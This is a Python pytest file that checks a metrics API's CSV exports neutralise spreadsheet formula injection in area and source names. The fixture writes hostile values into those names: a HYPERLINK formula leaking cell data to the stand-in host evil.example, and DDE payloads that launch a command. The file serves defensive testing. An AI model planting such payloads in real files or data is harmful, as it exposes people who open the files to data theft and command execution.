"""The public CSV never hands a spreadsheet a formula: area and source names are written as text."""

import csv
import io

import pytest

from activities.models import Source
from conversion_points.models import Area
from conversion_points.tests.factories import small_computed_community, the_day_after_sunday
from metrics.engine import metrics_recompute

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Support")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def named_by_an_attacker(db):
    with the_day_after_sunday():
        yield from _named_by_an_attacker()


def _named_by_an_attacker():
    small_computed_community()
    # A builder names their area, staff name a source (or load_config does): both reach the public CSV.
    Area.objects.filter(slug="support").update(name=HYPERLINK)
    Source.objects.filter(slug="sumo").update(name=DDE)
    Area.objects.filter(slug="coding").update(name="-Coding+cmd|' /C calc'!A0")
    metrics_recompute()
    yield


def test_summary_csv_writes_formula_names_as_text(client, named_by_an_attacker):
    response = client.get("/api/v1/metrics/summary/?format=csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = {row["scope"]: row["name"] for row in rows}
    assert names["area:support"] == "'" + HYPERLINK
    assert names["source:sumo"] == "'" + DDE
    assert names["area:coding"] == "'-Coding+cmd|' /C calc'!A0"
    assert names["source:github"] == "GitHub"
    # The numbers are still numbers, and the JSON keeps the names exactly as written.
    assert [row["active"] for row in rows] == ["2", "1", "2", "2", "1"]
    assert {area["name"] for area in client.get("/api/v1/metrics/summary/").json()["areas"]} == {
        HYPERLINK,
        "-Coding+cmd|' /C calc'!A0",
    }


def test_series_csv_cells_are_never_formulas(client, named_by_an_attacker):
    response = client.get("/api/v1/metrics/series/?scope=area:support&format=csv")

    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert response.status_code == 200 and cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
